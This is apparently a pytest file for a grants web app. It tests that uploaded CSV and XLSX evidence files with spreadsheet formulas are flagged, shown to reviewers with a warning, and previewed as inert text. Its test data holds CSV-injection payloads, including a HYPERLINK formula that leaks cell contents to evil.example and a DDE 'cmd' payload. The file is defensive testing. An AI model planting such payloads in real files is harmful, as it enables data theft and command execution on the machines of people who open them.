"""Evidence spreadsheets with formulas: flagged at upload, a warning beside the file for
the reviewers, and a preview that shows formulas as inert text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from grants.awards.models import EvidenceFile
from grants.milestones.evidence import spreadsheets
from tests.support.api import ApiClient
from tests.support.grants import GrantWorld, make_grant
from tests.support.web import login, post_form

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_bytes(*rows: tuple[str, ...], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx(sheet: str, extra: dict[str, str] | None = None) -> bytes:
    """A minimal workbook whose first worksheet's <sheetData> is `sheet`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="x"><sheetData>{sheet}</sheetData></worksheet>',
        )
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


VALUES = '<row r="1"><c r="A1"><v>42</v></c><c r="B1" t="s"><v>0</v></c></row>'
FORMULA = '<row r="1"><c r="A1"><f>SUM(B1:B2)</f><v>3</v></c></row>'
SHARED = '<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0"/></c></row>'


@pytest.mark.parametrize(
    ("text", "flagged"),
    [
        ("name,amount\r\nSakura,1000\r\n", False),
        ("a,-5\r\nb,+1.5e3\r\nc,-1,234.5\r\nd,12%\r\n", False),  # signed numbers
        ("組織 = 会社,x\r\n", False),
        (csv_bytes(("x", HOSTILE)).decode(), True),
        ("x,+81-3-1234-5678\r\n", True),  # Excel computes it
        ("x,-2+3+cmd|' /C calc'!A0\r\n", True),
        ("x,@SUM(A1)\r\n", True),
        ('x,"\t=1"\r\n', True),
        ("x,＝1+1\r\n", True),  # full-width, as Japanese input gives it
    ],
)
def test_csv_cells_that_a_spreadsheet_evaluates(text: str, flagged: bool) -> None:
    assert spreadsheets.csv_has_formulas(text) is flagged


def test_xlsx_formulas_and_links_to_other_workbooks() -> None:
    assert spreadsheets.xlsx_has_formulas(xlsx(VALUES)) is False
    assert spreadsheets.xlsx_has_formulas(xlsx(FORMULA)) is True
    assert spreadsheets.xlsx_has_formulas(xlsx(SHARED)) is True
    link = {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
    assert spreadsheets.xlsx_has_formulas(xlsx(VALUES, link)) is True


def test_an_xlsx_too_large_to_read_through_is_flagged(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "XLSX_READ_MAX", 1024)
    assert spreadsheets.xlsx_has_formulas(xlsx(VALUES * 100)) is True


@pytest.fixture
def world(app: Flask) -> GrantWorld:
    return make_grant()


def _upload(client: FlaskClient, world: GrantWorld, files: list[tuple[bytes, str]]) -> None:
    login(client, world.applicant.email)
    data = {
        "narrative": "Results attached.",
        "measured_0": "8",
        "files": [(io.BytesIO(content), name) for content, name in files],
    }
    milestone = world.milestones[0]
    response = post_form(
        client, f"/milestones/{milestone.id}/evidence", data, content_type="multipart/form-data"
    )
    assert response.status_code == 302, response.get_data(as_text=True)


def _switch(client: FlaskClient, email: str) -> None:
    post_form(client, "/logout", {})
    login(client, email)


def _flags() -> dict[str, bool]:
    rows = db_rows()
    return {row.original_name: row.has_formulas for row in rows}


def db_rows() -> list[EvidenceFile]:
    from grants.extensions import db

    return list(db.session.scalars(select(EvidenceFile).order_by(EvidenceFile.id)))


def test_the_flag_is_stored_at_upload_and_shown_to_reviewers(
    client: FlaskClient, world: GrantWorld
) -> None:
    hostile = csv_bytes(("name", "link"), ("A", HOSTILE))
    _upload(
        client,
        world,
        [
            (hostile, "results.csv"),
            (csv_bytes(("名前", "値"), ("試験", "8"), encoding="cp932"), "clean.csv"),
            (xlsx(FORMULA), "sheet.xlsx"),
        ],
    )
    assert _flags() == {"results.csv": True, "clean.csv": False, "sheet.xlsx": True}
    flagged = [row.id for row in db_rows() if row.has_formulas]
    page = client.get(f"/grants/{world.grant.id}").get_data(as_text=True)
    for file_id in flagged:
        assert f'id="formulas-{file_id}"' in page
    assert page.count("formula-warning") == 2
    assert "表計算の数式が含まれています。" in page
    _switch(client, world.reviewers[0].email)
    review = client.get(f"/milestones/{world.milestones[0].id}/review").get_data(as_text=True)
    assert review.count("formula-warning") == 2


def test_the_api_says_which_files_hold_formulas(client: FlaskClient, world: GrantWorld) -> None:
    _upload(client, world, [(csv_bytes(("x", HOSTILE)), "a.csv"), (b"x,1\r\n", "b.csv")])
    api = ApiClient(client, world.applicant)
    body = api.get(f"/api/v1/milestones/{world.milestones[0].id}").get_json()
    files = body["submissions"][0]["files"]
    assert {f["original_name"]: f["has_formulas"] for f in files} == {"a.csv": True, "b.csv": False}


def test_the_preview_shows_formulas_as_inert_text(client: FlaskClient, world: GrantWorld) -> None:
    rows = [(f"row{n}", str(n)) for n in range(250)]
    _upload(client, world, [(csv_bytes(("name", "link"), ("A", HOSTILE), *rows), "r.csv")])
    file_id = db_rows()[0].id
    _switch(client, world.reviewers[0].email)
    response = client.get(f"/evidence/files/{file_id}/preview")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "&#39;=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Click&#34;)" in page
    assert "<td>row197</td>" in page and "row198" not in page  # 200 rows with the header
    assert "The first 200 rows" in page or "最初の200行" in page
    assert "no-store" in response.headers["Cache-Control"]


def test_only_csv_files_have_a_preview(client: FlaskClient, world: GrantWorld) -> None:
    _upload(client, world, [(xlsx(FORMULA), "sheet.xlsx")])
    _switch(client, world.reviewers[0].email)
    assert client.get(f"/evidence/files/{db_rows()[0].id}/preview").status_code == 404
